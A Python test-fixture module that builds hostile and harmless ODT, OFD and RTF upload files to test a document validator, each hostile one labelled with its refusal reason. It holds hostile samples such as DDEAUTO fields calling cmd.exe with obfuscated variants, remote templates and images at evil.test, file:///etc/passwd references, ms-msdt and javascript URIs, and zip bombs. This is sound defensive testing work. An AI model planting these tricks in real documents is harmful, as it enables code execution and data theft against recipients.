"""Files that somebody uploads as a report, in the formats that evidence does not take so: OpenDocument, OFD, RTF. Hostile ones, each by
another trick, and harmless ones as word processors write them. All are made here.
"""

from base64 import b64encode
from struct import pack

from tests.web.supervision.uploads import JPEG, compound, docx, jpeg, pdf, png, relations, zipped

_ODF = "urn:oasis:names:tc:opendocument:xmlns:"
_NAMES = " ".join(
    f'xmlns:{prefix}="{_ODF}{name}:1.0"'
    for prefix, name in (("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"), ("script", "script"), ("form", "form"), ("style", "style"))
) + ' xmlns:xlink="http://www.w3.org/1999/xlink"'  # fmt: skip
_ODT = "application/vnd.oasis.opendocument.text"
_OFD = 'xmlns:ofd="http://www.ofdspec.org/2016"'


# OpenDocument


def manifest(more="", kind=_ODT):
    entry = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
    return (
        f'<manifest:manifest xmlns:manifest="{_ODF}manifest:1.0">{entry}{more}</manifest:manifest>'.encode()
    )


def odt(body="<text:p>地区生产总值增长5%。</text:p>", members=None, *, scripts="", kind=_ODT):
    """A text of OpenDocument; ``members`` are further parts, or others of the same name."""
    content = (
        f"<office:document-content {_NAMES}><office:scripts>{scripts}</office:scripts>"
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    return zipped({"mimetype": kind.encode(), "content.xml": content.encode(), "META-INF/manifest.xml": manifest()} | (members or {}))  # fmt: skip


def entry(place, kind):
    return {"META-INF/manifest.xml": manifest(f'<manifest:file-entry manifest:full-path="{place}" manifest:media-type="{kind}"/>')}  # fmt: skip


def meta(inner):
    return {"meta.xml": f'<office:document-meta {_NAMES} xmlns:meta="{_ODF}meta:1.0"><office:meta>{inner}</office:meta></office:document-meta>'.encode()}  # fmt: skip


_LISTENER = '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>'

ODT_ATTACKS = {
    "Basic": (odt(members={"Basic/Standard/Module1.xml": b"<script:module/>"}), "macros"),
    "Python": (odt(members={"Scripts/python/a.py": b"import os"}), "macros"),
    "macro that is only listed": (odt(members=entry("Basic/", "application/vnd.sun.xml.ui.configuration")), "macros"),
    "signed macros": (odt(members={"META-INF/macrosignatures.xml": b"<a/>"}), "macros"),
    "event at opening": (odt(scripts=_LISTENER), "active"),
    "event of a link": (odt(f'<text:p><text:a xlink:href="#a">{_LISTENER}x</text:a></text:p>'), "active"),
    "script in the text": (odt('<text:p><text:script script:language="JavaScript">x</text:script></text:p>'), "active"),
    "field that calls a macro": (odt('<text:p><text:execute-macro text:name="a"/></text:p>'), "macros"),
    "object": (odt('<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>', {"Object 1/content.xml": b"<a/>"}), "active"),
    "object in a folder alone": (odt(members={"Object 1/content.xml": b"<a/>"}), "active"),
    "picture of an object": (odt(members={"ObjectReplacements/Object 1": png()}), "active"),
    "OLE": (odt('<text:p><draw:frame><draw:object-ole xlink:href="./Obj100"/></draw:frame></text:p>'), "active"),
    "OLE that is only listed": (odt(members=entry("a.bin", "application/vnd.sun.star.oleobject")), "active"),
    "OLE written out": (odt(f"<text:p><draw:frame><draw:image><office:binary-data>{b64encode(compound({'a': b'x'})).decode()}</office:binary-data></draw:image></draw:frame></text:p>"), "two_in_one"),
    "applet": (odt('<text:p><draw:frame><draw:applet draw:code="a.class"/></draw:frame></text:p>'), "active"),
    "plugin": (odt('<text:p><draw:frame><draw:plugin xlink:href="http://evil.test/"/></draw:frame></text:p>'), "active"),
    "frame of a page": (odt('<text:p><draw:frame><draw:floating-frame xlink:href="http://evil.test/"/></draw:frame></text:p>'), "active"),
    "picture from elsewhere": (odt('<text:p><draw:frame><draw:image xlink:href="http://evil.test/a.png"/></draw:frame></text:p>'), "active"),
    "picture from another computer": (odt('<text:p><draw:frame><draw:image xlink:href="//evil.test/a.png"/></draw:frame></text:p>'), "active"),
    "picture of the disk": (odt('<text:p><draw:frame><draw:image xlink:href="../../a.png"/></draw:frame></text:p>'), "active"),
    "picture whose address a second attribute hides": (odt('<text:p><draw:frame xmlns:z="urn:z"><draw:image xlink:href="http://evil.test/a.png" z:href="#a"/></draw:frame></text:p>'), "active"),
    "background from elsewhere": (odt('<style:background-image xlink:href="http://evil.test/a.png"/>'), "active"),
    "font from elsewhere": (odt('<svg:font-face-uri xmlns:svg="urn:svg" xlink:href="http://evil.test/a.ttf"/>'), "active"),
    "section of another file": (odt('<text:section text:name="a"><text:section-source xlink:href="file:///etc/passwd"/></text:section>'), "active"),
    "DDE": (odt('<text:p><office:dde-source office:dde-application="cmd"/></text:p>'), "active"),
    "DDE of a field": (odt('<text:dde-connection-decls><text:dde-connection-decl office:dde-application="soffice" office:dde-topic="/etc/passwd" office:name="a"/></text:dde-connection-decls>'), "active"),
    "formula that fetches": (odt('<table:table><table:table-row><table:table-cell table:formula="ooow:WEBSERVICE(&quot;http://evil.test&quot;)"/></table:table-row></table:table>'), "active"),
    "database": (odt('<text:p><text:database-display text:table-name="a"/></text:p>'), "active"),
    "form that is sent away": (odt('<office:forms><form:form xlink:href="http://evil.test/"/></office:forms>'), "active"),
    "XForms": (odt('<office:forms><xforms:model xmlns:xforms="http://www.w3.org/2002/xforms"/></office:forms>'), "active"),
    "link to a program": (odt('<text:p><text:a xlink:href="file:///c:/windows/system32/calc.exe">x</text:a></text:p>'), "active"),
    "link to a macro": (odt('<text:p><text:a xlink:href="macro:///Standard.Module1.Main">x</text:a></text:p>'), "active"),
    "template from elsewhere": (odt(members=meta('<meta:template xlink:href="http://evil.test/a.ott"/>')), "active"),
    "page that reloads": (odt(members=meta('<meta:auto-reload xlink:href="http://evil.test/" meta:delay="PT1S"/>')), "active"),
    "keys that call macros": (odt(members={"Configurations2/accelerator/current.xml": b"<a/>"}), "unknown_part"),
    "part that nobody knows": (odt(members={"payload.bin": b"x"}), "unknown_part"),
    "program called a picture": (odt(members={"Pictures/a.png": b"MZ\x90\x00"}), "executable"),
    "archive behind a picture": (odt(members={"Pictures/a.png": png() + zipped({"a": b"x"})}), "unknown_part"),
    "package called a picture": (odt(members={"Pictures/a.png": docx()}), "unknown_part"),
    "scripted picture": (odt(members={"Pictures/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}), "active"),
    "picture with a script in it": (odt(members={"Pictures/a.svg": b"<svg><script>alert(1)</script></svg>"}), "active"),
    "locked": (odt(members={"META-INF/manifest.xml": manifest('<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data/></manifest:file-entry>')}), "encrypted"),
    "entities": (odt(members={"content.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "active"),
    "entities in the list of parts": (odt(members={"META-INF/manifest.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "active"),
    "list of parts that says something else": (odt(members={"META-INF/manifest.xml": manifest(kind="application/vnd.oasis.opendocument.text-master")}), "two_in_one"),
    "template": (odt(kind=_ODT + "-template"), "unknown_type"),
    "master document, which loads others": (odt(kind=_ODT + "-master"), "unknown_type"),
    "spreadsheet": (odt(kind="application/vnd.oasis.opendocument.spreadsheet"), "unknown_type"),
    "with a tail": (odt() + b"<script>", "two_in_one"),
    "bomb": (odt(members={"Pictures/a.png": b"\0" * (8 << 20)}), "bomb"),
    "within itself": (odt("<text:p>" * 600 + "</text:p>" * 600), "bomb"),
    "without a text": (zipped({"mimetype": _ODT, "META-INF/manifest.xml": manifest()}), "damaged"),
}  # fmt: skip


# OFD


def ofd(page="", *, members=None, document="", body="", resources=""):
    """A page of a paper by GB/T 33190; ``document``, ``body`` and ``resources`` are further elements of their files."""
    parts = {
        "OFD.xml": f'<ofd:OFD {_OFD} Version="1.1" DocType="OFD"><ofd:DocBody><ofd:DocInfo><ofd:DocID>a</ofd:DocID></ofd:DocInfo>'
        f"<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>{body}</ofd:DocBody></ofd:OFD>",
        "Doc_0/Document.xml": f"<ofd:Document {_OFD}><ofd:CommonData><ofd:MaxUnitID>9</ofd:MaxUnitID><ofd:PageArea><ofd:PhysicalBox>0 0 210 297"
        "</ofd:PhysicalBox></ofd:PageArea><ofd:PublicRes>PublicRes.xml</ofd:PublicRes></ofd:CommonData><ofd:Pages>"
        f'<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages>{document}</ofd:Document>',
        "Doc_0/PublicRes.xml": f'<ofd:Res {_OFD} BaseLoc="Res"><ofd:Fonts><ofd:Font ID="3" FontName="宋体"/></ofd:Fonts>{resources}</ofd:Res>',
        "Doc_0/Pages/Page_0/Content.xml": f'<ofd:Page {_OFD}><ofd:Content><ofd:Layer ID="4" Type="Body"><ofd:TextObject ID="5" Boundary="30 30 150 6" '
        f'Font="3" Size="5"><ofd:TextCode X="0" Y="4.5" DeltaX="g 8 5">地区生产总值增长</ofd:TextCode></ofd:TextObject>{page}</ofd:Layer></ofd:Content></ofd:Page>',
    }  # fmt: skip
    return zipped({name: text.encode() for name, text in parts.items()} | (members or {}))


def acted(inner, event="CLICK"):
    return f'<ofd:Actions><ofd:Action Event="{event}">{inner}</ofd:Action></ofd:Actions>'


def medium(kind, place="a.png"):
    return f'<ofd:MultiMedias><ofd:MultiMedia ID="7" Type="{kind}"><ofd:MediaFile>{place}</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias>'


def attached(name):
    return f'<ofd:Attachments {_OFD}><ofd:Attachment ID="a" Name="{name}"><ofd:FileLoc>{name}</ofd:FileLoc></ofd:Attachment></ofd:Attachments>'.encode()


_TAGS = {"Doc_0/Tags/CustomTags.xml": f'<ofd:CustomTags {_OFD}><ofd:CustomTag TypeID="a"><ofd:FileLoc>Tag.xml</ofd:FileLoc></ofd:CustomTag></ofd:CustomTags>'.encode()}  # fmt: skip
_SIGNED = {
    "Doc_0/Signs/Signatures.xml": f'<ofd:Signatures {_OFD}><ofd:MaxSignId>1</ofd:MaxSignId><ofd:Signature ID="1" Type="Seal" BaseLoc="Sign_0/Signature.xml"/></ofd:Signatures>'.encode(),
    "Doc_0/Signs/Sign_0/Signature.xml": f'<ofd:Signature {_OFD}><ofd:SignedInfo><ofd:Provider ProviderName="a"/><ofd:References CheckMethod="1.2.156.10197.1.401"><ofd:Reference FileRef="/Doc_0/Document.xml">'
    '<ofd:CheckValue>AAAA</ofd:CheckValue></ofd:Reference></ofd:References><ofd:StampAnnot ID="1" PageRef="1" Boundary="100 200 40 40"/><ofd:Seal><ofd:BaseLoc>Seal.esl</ofd:BaseLoc></ofd:Seal>'
    "</ofd:SignedInfo><ofd:SignedValue>SignedValue.dat</ofd:SignedValue></ofd:Signature>".encode(),
    "Doc_0/Signs/Sign_0/Seal.esl": b"\x30\x82\x01\x00abc",
    "Doc_0/Signs/Sign_0/SignedValue.dat": b"\x30\x82\x01\x00abc",
}  # fmt: skip

OFD_ATTACKS = {
    "attachment": (ofd(document="<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>", members={"Doc_0/Attachs/Attachments.xml": attached("a.xml"), "Doc_0/Attachs/a.xml": b"<a/>"}), "active"),
    "attachment that nothing lists": (ofd(members={"Doc_0/Attachs/a.pdf": pdf()}), "unknown_part"),
    "attachment called a seal": (ofd(members={"Doc_0/Signs/Seal.esl": docx()}), "unknown_part"),
    "action to an attachment": (ofd(acted('<ofd:GotoA AttachID="a" NewWindow="true"/>')), "active"),
    "sound": (ofd(acted('<ofd:Sound ResourceID="7"/>')), "active"),
    "film": (ofd(document=acted('<ofd:Movie ResourceID="7" Operator="Play"/>', "DO")), "active"),
    "sound among the resources": (ofd(resources=medium("Audio", "a.mp3")), "active"),
    "film called a picture": (ofd(resources=medium("Image"), members={"Doc_0/Res/a.png": b"\0\0\0\x20ftypisom"}), "unknown_part"),
    "script": (ofd(acted("<ofd:Script>alert(1)</ofd:Script>")), "active"),
    "program to start": (ofd(acted('<ofd:Launch File="cmd.exe"/>')), "active"),
    "address of a script": (ofd(acted('<ofd:URI URI="javascript:alert(1)"/>')), "active"),
    "address of a handler": (ofd(acted('<ofd:URI URI="ms-msdt:/id"/>')), "active"),
    "address of the disk by its base": (ofd(acted('<ofd:URI Base="file:///c:/" URI="a.exe"/>')), "active"),
    "address that a second attribute hides": (ofd(acted('<ofd:URI xmlns:z="urn:z" URI="file:///c:/a.exe" z:URI="https://www.gov.cn/"/>')), "active"),
    "address gone to at opening": (ofd(document=acted('<ofd:URI URI="http://evil.test/"/>', "DO")), "active"),
    "address gone to when a page opens": (ofd(acted('<ofd:URI URI="http://evil.test/"/>', "PO")), "active"),
    "element of nobody's standard": (ofd("<ofd:WebObject/>"), "unknown_part"),
    "file of another kind": (ofd(members={"Doc_0/a.xml": b"<html><body/></html>"}), "unknown_part"),
    "element of the standard as a file": (ofd(members={"Doc_0/a.xml": b"<TextCode>x</TextCode>"}), "unknown_part"),
    "page of the web": (ofd(members={"Doc_0/a.html": b"<p>"}), "unknown_part"),
    "resource from elsewhere": (ofd(resources=medium("Image", "http://evil.test/a.png")), "active"),
    "resource of another computer": (ofd(resources=medium("Image", "\\\\evil\\a.png")), "active"),
    "resource outside": (ofd(resources=medium("Image", "../../../etc/passwd")), "active"),
    "page from elsewhere": (ofd(document='<ofd:Template ID="9" BaseLoc="http://evil.test/a.xml"/>'), "active"),
    "tag that runs": (ofd(document="<ofd:CustomTags>Tags/CustomTags.xml</ofd:CustomTags>", members=_TAGS | {"Doc_0/Tags/Tag.xml": b"<a><script>x</script></a>"}), "active"),
    "tag that leads away": (ofd(members=_TAGS | {"Doc_0/Tags/Tag.xml": b'<a link="javascript:alert(1)"/>'}), "active"),
    "tag that nothing lists": (ofd(members={"Doc_0/Tags/Tag.xml": "<公文/>".encode()}), "unknown_part"),
    "archive behind a font": (ofd(members={"Doc_0/Res/a.ttf": b"\0\1\0\0" + zipped({"a": b"x"})}), "unknown_part"),
    "signature that is none": (ofd(members={"Doc_0/Signs/SignedValue.dat": b"#!/bin/sh"}), "executable"),
    "signature of something": (ofd(members={"Doc_0/Signs/SignedValue.dat": b"anything"}), "unknown_part"),
    "entities": (ofd(members={"Doc_0/PublicRes.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><Res>&b;</Res>'}), "active"),
    "entities in UTF-16": (ofd(members={"Doc_0/PublicRes.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><Res>&b;</Res>'.encode("utf-16")}), "active"),
    "locked": (ofd(members={"Encryptions.xml": b"<a/>"}), "encrypted"),
    "bomb": (ofd(members={"Doc_0/Res/a.png": b"\0" * (8 << 20)}), "bomb"),
    "within itself": (ofd("<ofd:PageBlock>" * 600 + "</ofd:PageBlock>" * 600), "bomb"),
    "with a tail": (ofd() + b"x", "two_in_one"),
    "cut short": (ofd(members={"Doc_0/PublicRes.xml": b"<Res>"}), "damaged"),
}  # fmt: skip


# RTF

_HEAD = rb"{\rtf1\ansi\ansicpg936\deff0{\fonttbl{\f0\fcharset0 Times;}{\f1\fcharset134 \'cb\'ce\'cc\'e5;}}"


def rtf(body=b"x", *, head=_HEAD):
    return head + (body.encode() if isinstance(body, str) else body) + b"}"


def instruction(*runs):
    return rtf("{\\field{\\*\\fldinst " + "".join(runs) + "}{\\fldrslt x}}")


def hexadecimal(data):
    return data.hex().encode()


def picture(kind, data):
    return rtf(b"{\\pict\\" + kind + b" " + hexadecimal(data) + b"}")


def ole1(name=b"Package\0", data=b"x"):
    return pack("<II", 0x501, 2) + pack("<I", len(name)) + name + pack("<III", 0, 0, len(data)) + data


def store(name=b"Msxml2.SAXXMLReader.6.0\0", streams=None):
    return ole1(name, compound(streams or {"MsoDataStore/a/Item": b"x", "MsoDataStore/a/Properties": b"x"}))


RTF_ATTACKS = {
    "object": (rtf(b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + hexadecimal(ole1()) + b"}}"), "active"),
    "object that updates itself": (rtf("{\\object\\objupdate x}"), "active"),
    "object without its group": (rtf("{\\*\\objdata 0105}"), "active"),
    "object linked by itself": (rtf("{\\objautlink x}"), "active"),
    "object in a picture": (rtf("{\\pict{\\*\\objdata 01}}"), "active"),
    "object cut by a line end": (rtf(b"{\\object\r\n\\objlink\r\n}"), "active"),
    "object behind three hundred groups": (rtf("{" * 300 + "\\objdata 01" + "}" * 300), "active"),
    "template from elsewhere": (rtf("{\\*\\template http://evil.test/a.dotm}"), "active"),
    "template without its star": (rtf("{\\template \\\\\\\\evil\\\\a.dotm}"), "active"),
    "files of its own": (rtf("{\\*\\filetbl{\\file\\fid0 a.exe}}"), "active"),
    "next file": (rtf("{\\*\\nextfile a.rtf}"), "active"),
    "merged mail": (rtf("{\\*\\mailmerge{\\*\\mmconnectstr x}}"), "active"),
    "macro of a form": (rtf("{\\*\\formfield{\\*\\ffentrymcr a}}"), "macros"),
    "font inside": (rtf("{\\*\\fontemb\\ftruetype 00}"), "active"),
    "DDE": (instruction(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "), "active"),
    "DDE without its star": (rtf("{\\field{\\fldinst DDE cmd a}{\\fldrslt x}}"), "active"),
    "DDE spread over runs": (instruction("{\\b D}{\\i DEA}{\\rtlch UTO} c:\\\\a.exe"), "active"),
    "DDE in code points": (instruction("\\u68?\\u68?\\u69? cmd"), "active"),
    "DDE in code points that stand for more": (instruction("\\uc2\\u68??\\u68??E cmd"), "active"),
    "DDE in bytes": (instruction("\\'44\\'44\\'45 cmd"), "active"),
    "DDE in a field of a field": (instruction("IF{\\field{\\*\\fldinst DDE cmd}{\\fldrslt 1}} = 1"), "active"),
    "DDE by what a field gives": (instruction("D{\\field{\\*\\fldinst PAGE}{\\fldrslt DE}} cmd"), "active"),
    "DDE by numbers": (instruction("{\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt x}}"), "active"),
    "DDE before another destination": (rtf("{\\field{\\*\\fldinst DDE cmd\\*\\panose 01}{\\fldrslt x}}"), "damaged"),
    "DDE by Word's own marks": (rtf(b"\\'13 DDE cmd \\'15"), "damaged"),
    "picture fetched by a field": (instruction('INCLUDEPICTURE "http://evil.test/a.png" \\\\d'), "active"),
    "text fetched by a field": (instruction('INCLUDETEXT "c:\\\\\\\\a.txt"'), "active"),
    "link that updates itself": (instruction('LINK Word.Document.8 "c:\\\\\\\\a.doc" \\\\a \\\\p'), "active"),
    "button that calls a macro": (instruction("MACROBUTTON Run x"), "active"),
    "link to a program": (instruction('HYPERLINK "file:///c:/a.exe"'), "active"),
    "link to another computer": (instruction("HYPERLINK \\\\\\\\\\\\\\\\evil\\\\\\\\a"), "active"),
    "link of a shape": (rtf("{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlsrc file:///c:/a.exe}}}}}}"), "active"),
    "picture of a shape from elsewhere": (rtf("{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.test/a.png}}{\\sp{\\sn pibFlags}{\\sv 2}}}}"), "active"),
    "picture of a shape that is fetched": (rtf("{\\shp{\\*\\shpinst{\\sp{\\sn pibFlags}{\\sv 10}}}}"), "active"),
    "list whose length is believed": (rtf("{\\shp{\\*\\shpinst{\\sp{\\sn pFragments}{\\sv 1;1;01}}}}"), "active"),
    "picture that is a program": (picture(b"pngblip", b"MZ\x90\0"), "unknown_part"),
    "picture that is OLE": (picture(b"wmetafile8", compound({"a": b"x"})), "unknown_part"),
    "picture that is an archive": (picture(b"jpegblip", jpeg() + zipped({"a": b"x"})), "unknown_part"),
    "picture of a Mac": (picture(b"macpict", png()), "unknown_part"),
    "picture of no kind": (rtf("{\\pict 4d5a9000}"), "unknown_part"),
    "picture that is no number": (rtf("{\\pict\\pngblip zz}"), "damaged"),
    "bytes outside a picture": (rtf(b"\\bin4 MZ\x90\0"), "two_in_one"),
    "bytes that swallow the end": (rtf(b"{\\pict\\pngblip\\bin9999 x}"), "two_in_one"),
    "bytes backwards": (rtf(b"{\\pict\\pngblip\\bin-5 x}"), "two_in_one"),
    "bytes of a program": (rtf(b"{\\pict\\pngblip\\bin4 MZ\x90\0}"), "unknown_part"),
    "bytes behind a picture": (rtf(b"{\\pict\\pngblip " + hexadecimal(png()) + b"\\bin2 MZ}"), "two_in_one"),
    "store of another class": (rtf(b"{\\*\\datastore " + hexadecimal(store(b"Equation.3\0")) + b"}"), "active"),
    "store with a package": (rtf(b"{\\*\\datastore " + hexadecimal(store(streams={"MsoDataStore/\x01Ole10Native": b"x"})) + b"}"), "active"),
    "store with macros": (rtf(b"{\\*\\datastore " + hexadecimal(store(streams={"Macros/VBA/dir": b"x"})) + b"}"), "active"),
    "colours that lead away": (rtf(b"{\\*\\themedata " + hexadecimal(zipped({"a.rels": relations(("image", "http://evil.test/a.png", "External"))})) + b"}"), "active"),
    "colours with a program": (rtf(b"{\\*\\themedata " + hexadecimal(zipped({"theme/a.bin": b"x"})) + b"}"), "unknown_part"),
    "destination of nobody": (rtf("{\\*\\payload 4d5a}"), "unknown_part"),
    "word of a hundred letters": (rtf("\\" + "o" * 100 + " x"), "damaged"),
    "number of thirty digits": (rtf("\\f" + "9" * 30 + " x"), "damaged"),
    "brace behind half a character": (rtf(b"\xd6{\\b x}"), "damaged"),
    "with a tail": (rtf() + b"MZ\x90\0", "two_in_one"),
    "two in one": (rtf() + rtf("{\\object x}"), "two_in_one"),
    "never closed": (rtf("{x"), "damaged"),
    "closed too often": (rtf("x}y"), "two_in_one"),
    "braces alone": (rtf("{" * 1000 + "}" * 1000), "bomb"),
    "head cut short, which Word opens": (b"{\\rt" + rtf("{\\object x}")[5:], "two_in_one"),
    "head cut short, behind a mark": (b"\xef\xbb\xbf{\\rt\\object}", "two_in_one"),
    "head of another version": (rtf(head=b"{\\rtf9x "), "damaged"),
}  # fmt: skip

ATTACKS = {
    f"{form}: {what}": (f"报告.{form.lower()}", content, code)
    for form, rows in (("ODT", ODT_ATTACKS), ("OFD", OFD_ATTACKS), ("RTF", RTF_ATTACKS))
    for what, (content, code) in rows.items()
}
"""What it is → name, bytes, the fault that it is refused for."""


_WORD = (
    rb"{\rtf1\adeflang1025\ansi\ansicpg936\uc2\adeff0\deff0{\fonttbl{\f0\froman\fcharset0\fprq2{\*\panose 02020603050405020304}Times New Roman;}"
    rb"{\f13\fnil\fcharset134\fprq2{\*\panose 02010600030101010101}\'cb\'ce\'cc\'e5{\*\falt SimSun};}}{\colortbl;\red0\green0\blue0;}"
    rb"{\*\defchp \fs21}{\*\defpap \ql}{\stylesheet{\ql \snext0 Normal;}{\*\cs10 \additive Default Paragraph Font;}}"
    rb"{\*\listtable{\list\listtemplateid1{\listlevel\levelnfc0{\leveltext\'02\'00.;}{\levelnumbers\'01;}}{\listname ;}\listid1}}{\*\rsidtbl \rsid1}"
    rb"{\mmathPr\mmathFont34}{\info{\author a}}{\*\xmlnstbl {\xmlns1 http://schemas.microsoft.com/office/word/2003/wordml}}"
    rb"{\*\latentstyles\lsdstimax1{\lsdlockedexcept \lsdqformat1 Normal;}}"
)
"""How a file of Word begins."""

HARMLESS = {
    "ODT": odt(),
    "ODT with what LibreOffice adds": odt(
        '<text:list xml:id="list1" text:id="list1"><text:list-item><text:p>一、</text:p></text:list-item></text:list>',
        {"Configurations2/accelerator/current.xml": b"", "layout-cache": b"\0\1\2", "Thumbnails/thumbnail.png": png(), "manifest.rdf": b"<RDF/>"}
        | meta('<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:title="Normal.dotm" xlink:href=""/>'),
    ),
    "ODT with a picture, a link and an annex beside it": odt(
        '<text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame><text:a xlink:href="https://www.gov.cn/">x</text:a><text:a xlink:href="附件1.pdf">y</text:a></text:p>',
        {"Pictures/a.png": png(), "Pictures/b.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'},
    ),
    "ODT with a picture written out": odt(f"<text:p><draw:frame><draw:image><office:binary-data>{b64encode(JPEG).decode()}</office:binary-data></draw:image></draw:frame></text:p>"),
    "ODT with a formula that counts": odt('<table:table><table:table-row><table:table-cell table:formula="ooow:sum &lt;A1:A3&gt;"/></table:table-row></table:table>'),
    "ODT that is signed": odt(members={"META-INF/documentsignatures.xml": b'<document-signatures><Signature><Reference URI="content.xml"/><Object/></Signature></document-signatures>'}),
    "OFD": ofd(),
    "OFD with a seal": ofd(body="<ofd:Signatures>/Doc_0/Signs/Signatures.xml</ofd:Signatures>", members=_SIGNED),
    "OFD with pictures and fonts": ofd('<ofd:ImageObject ID="8" Boundary="0 0 9 9" ResourceID="7"/>', resources=medium("Image"), members={"Doc_0/Res/a.png": png(), "Doc_0/Res/b.ttf": b"\0\1\0\0abc"}),
    "OFD with links and an outline": ofd(
        acted('<ofd:URI URI="https://www.gov.cn/"/>') + acted('<ofd:Goto><ofd:Dest Type="XYZ" PageID="1"/></ofd:Goto>'),
        document=f'<ofd:Outlines><ofd:OutlineElem Title="一">{acted("<ofd:Goto><ofd:Bookmark/></ofd:Goto>")}</ofd:OutlineElem></ofd:Outlines>',
    ),
    "OFD with an office's own tags": ofd(document="<ofd:CustomTags>Tags/CustomTags.xml</ofd:CustomTags>", members=_TAGS | {"Doc_0/Tags/Tag.xml": "<公文><标题><ObjectRef PageRef='1'>5</ObjectRef></标题></公文>".encode()}),
    "OFD with nothing attached": ofd(document="<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>", members={"Doc_0/Attachs/Attachments.xml": f"<ofd:Attachments {_OFD}/>".encode()}),
    "RTF": rtf("{\\f1\\'b5\\'d8\\'c7\\'f8}\\par"),
    "RTF of Word": rtf(
        b"{\\*\\themedata " + hexadecimal(zipped({"theme/theme/theme1.xml": b"<a:theme xmlns:a='urn:a'/>", "_rels/.rels": relations(("officeDocument", "theme/theme/themeManager.xml", ""))})) + b"}"
        b"{\\*\\colorschememapping " + hexadecimal(b"<a:clrMap xmlns:a='urn:a'/>") + b"}{\\*\\datastore " + hexadecimal(store()) + b"}"
        b"\\pard{\\f13\\loch \\u22320\\'b5\\'d8\\u21306\\'c7\\'f8}\\par",
        head=_WORD,
    ),
    "RTF with pictures": rtf(
        b"{\\*\\shppict{\\pict{\\*\\picprop{\\sp{\\sn pibName}{\\sv \xcd\xbc1}}{\\sp{\\sn pibFlags}{\\sv 0}}}\\picw1\\pngblip\\bliptag1{\\*\\blipuid 00ff}\r\n" + hexadecimal(png()) + b"}}"
        b"{\\nonshppict{\\pict\\wmetafile8 " + hexadecimal(b"\1\0\x09\0\0\3" + b"\0" * 20) + b"}}{\\pict\\jpegblip\\bin" + str(len(JPEG)).encode() + b" " + JPEG + b"}",
    ),
    "RTF with fields": rtf(
        "{\\field{\\*\\fldinst { PAGE }}{\\fldrslt 1}}{\\field{\\*\\fldinst TOC \\\\o \"1-3\" \\\\h \\\\z}{\\fldrslt x}}"
        "{\\field{\\*\\fldinst HYPERLINK \"https://www.gov.cn/database/link\"}{\\fldrslt x}}{\\field{\\*\\fldinst HYPERLINK \\\\l \"_Toc1\"}{\\fldrslt x}}"
    ),
    "RTF that speaks of objects": rtf("\\'5cobjdata \\{\\\\object DDEAUTO\\}"),
    "RTF in raw GB 18030": rtf("{\\f1 地区生产总值}".encode("gb18030")),
    "RTF with a line end behind": b"\r\n" + rtf() + b"\r\n\0",
}  # fmt: skip
"""What it is → bytes of a file that must be taken."""
